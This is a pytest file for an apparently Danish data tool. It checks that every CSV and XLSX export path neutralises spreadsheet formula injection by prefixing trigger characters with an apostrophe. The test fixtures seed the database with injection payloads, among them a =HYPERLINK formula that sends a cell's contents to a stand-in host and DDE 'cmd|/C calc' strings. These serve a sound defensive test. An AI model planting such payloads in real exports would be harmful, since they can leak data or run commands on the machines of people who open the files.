"""Formula injection (issue 19.5): no export path writes data text that a spreadsheet runs.

Every text cell that starts with ``= + - @``, tab, CR or LF is written with a leading apostrophe
(OWASP CSV-injection guidance) by one helper, ``trappetrin.export.neutralise``. The database
here has every department, organisation and area name turned into a would-be formula; each
export path (Eksport's five files, the audit trail's CSV, the register export on Data, and the
command line's ``classify``, ``export-release`` and ``check-areas``) is opened and every cell
checked.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.app.test_eksport import downloads  # noqa: F401 - the fixture that reads a download button's file
from trappetrin import export
from trappetrin.cli import main as cli
from trappetrin.imports import export_register_template
from trappetrin.store import open_store

HYPERLINK = '=HYPERLINK("http://x.invalid/?v="&I2;"grå")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def poisoned_db(db: Path) -> Path:
    """The demo database with formula-like names everywhere a name comes from data."""
    store = open_store(db)
    try:
        with store.transaction() as cur:
            cur.execute('UPDATE departments SET name = \'=HYPERLINK("http://x.invalid/?v="&I2;"grå")\' || name')
            cur.execute("UPDATE organisations SET name = '@SUM(1+1)*cmd|''/C calc''!A0 ' || name")
            cur.execute("UPDATE areas SET name = '+1+1 ' || name")
        store.log_event("-2+3+cmd|' /C calc'!A0", "export", "=1+1", details={"fil": "@evil"})
    finally:
        store.close()
    return db


def assert_inert_csv(data: bytes, sep: str) -> list[list[str]]:
    """No cell in the CSV starts with a formula trigger, unless it is a plain negative number."""
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
    assert len(rows) > 1
    for r, row in enumerate(rows, start=1):
        for c, cell in enumerate(row, start=1):
            if cell.startswith(TRIGGERS):
                number = cell.replace(".", "").replace(",", ".") if sep == ";" else cell
                try:
                    float(number)
                except ValueError:
                    pytest.fail(f"row {r}, column {c}: formula-like cell {cell!r}")
    return rows


def assert_inert_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen_names = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    seen_names += cell.value.startswith("'=HYPERLINK")
    assert seen_names, "the poisoned names are not in the workbook at all"


def test_neutralise_is_the_owasp_rule():
    assert export.neutralise(HYPERLINK) == "'" + HYPERLINK
    for trigger in TRIGGERS:
        assert export.neutralise(trigger + "x") == "'" + trigger + "x"
        assert export.restore_neutralised(export.neutralise(trigger + "x")) == trigger + "x"
    assert export.neutralise("Vejgaard Øst") == "Vejgaard Øst"
    assert export.neutralise("'quoted") == "'quoted"
    assert export.neutralise(-3.5) == -3.5  # numbers are not text
    table = pd.DataFrame({"=Navn": [HYPERLINK, "ok"], "Tal": [-1.5, 2.0]})
    out = export.neutralised(table)
    assert list(out.columns) == ["'=Navn", "Tal"]
    assert out["'=Navn"].tolist() == ["'" + HYPERLINK, "ok"]
    assert out["Tal"].tolist() == [-1.5, 2.0]
    assert table["=Navn"].iloc[0] == HYPERLINK  # the caller's frame is not changed


def test_writers_neutralise(tmp_path):
    table = pd.DataFrame({"Afdeling": [HYPERLINK, "+45 1234", "@x", "\tx", "ok"], "Værdi": [-1.5, 2, 3, 4, 5]})
    rows = assert_inert_csv(export.to_csv_danish(table), ";")
    assert rows[1] == ["'" + HYPERLINK, "-1,5"]
    assert_inert_csv(export.to_csv_plain(table), ",")
    assert_inert_xlsx(export.to_xlsx({"Liste": table}))


@pytest.mark.parametrize("key", ["dl_csv_danish", "dl_csv_plain", "dl_xlsx", "dl_red_yellow", "dl_capacity"])
def test_every_eksport_download_is_inert(poisoned_db, app, downloads, key):  # noqa: F811
    at = app("eksport")
    assert not at.exception, at.exception
    file = downloads(next(b for b in at.download_button if b.key == key))
    if file.file_name.endswith(".xlsx"):
        assert_inert_xlsx(file.data)
    else:
        rows = assert_inert_csv(file.data, "," if key == "dl_csv_plain" else ";")
        if key != "dl_capacity":  # the capacity file is per organisation
            assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
        else:
            assert any(cell.startswith("'@SUM") for row in rows for cell in row)


def test_audit_trail_csv_is_inert(poisoned_db, app, downloads):  # noqa: F811
    at = app("revision")
    assert not at.exception, at.exception
    file = downloads(next(b for b in at.download_button if b.key == "dl_revision"))
    rows = assert_inert_csv(file.data, ";")
    assert any(cell.startswith("'-2+3+cmd") for row in rows for cell in row)


def test_register_export_on_data_page_is_inert_and_reimports_unchanged(poisoned_db, app, downloads):  # noqa: F811
    at = app("data")
    assert not at.exception, at.exception
    file = downloads(next(b for b in at.download_button if b.key == "data_register_export"))
    rows = assert_inert_csv(file.data, ";")
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    store = open_store(poisoned_db)
    try:
        assert file.data == export_register_template(store)
        names = set(store.departments()["name"])
    finally:
        store.close()
    from trappetrin.imports import read_table

    table = read_table(file.data, "stamdata.csv")
    assert set(table["Afdeling"]) == names  # the apostrophe is taken off again on the way in


def test_cli_exports_are_inert(poisoned_db, tmp_path, capsys):
    store = open_store(poisoned_db)
    release = store.latest_release()
    store.close()
    excel, plain, template = tmp_path / "excel.csv", tmp_path / "plain.csv", tmp_path / "release.csv"
    base = ["classify", "--release", release, "--rules", "trappetrin"]
    assert cli([*base, "--out", str(excel)]) == 0
    assert cli([*base, "--format", "plain", "--out", str(plain)]) == 0
    assert cli(["export-release", "--release", release, "--out", str(template)]) == 0
    for path, sep in ((excel, ";"), (plain, ","), (template, ";")):
        rows = assert_inert_csv(path.read_bytes(), sep)
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row), path.name


def test_cli_check_areas_is_inert(tmp_path):
    source = tmp_path / "omraader.csv"
    source.write_text(
        "area;year;residents;pct_outside_labour;pct_convicted;national_pct_convicted;pct_basic_education;"
        "income_pct_of_region;pct_nonwestern;years_parallelsamfund_before\n"
        '"=HYPERLINK(""http://x.invalid"")";2023;2000;40,0;1,0;0,78;61,0;70,0;25,0;0\n',
        encoding="utf-8",
    )
    out = tmp_path / "areas.csv"
    assert cli(["check-areas", str(source), "--out", str(out)]) == 0
    rows = assert_inert_csv(out.read_bytes(), ",")
    assert rows[1][0] == '\'=HYPERLINK("http://x.invalid")'
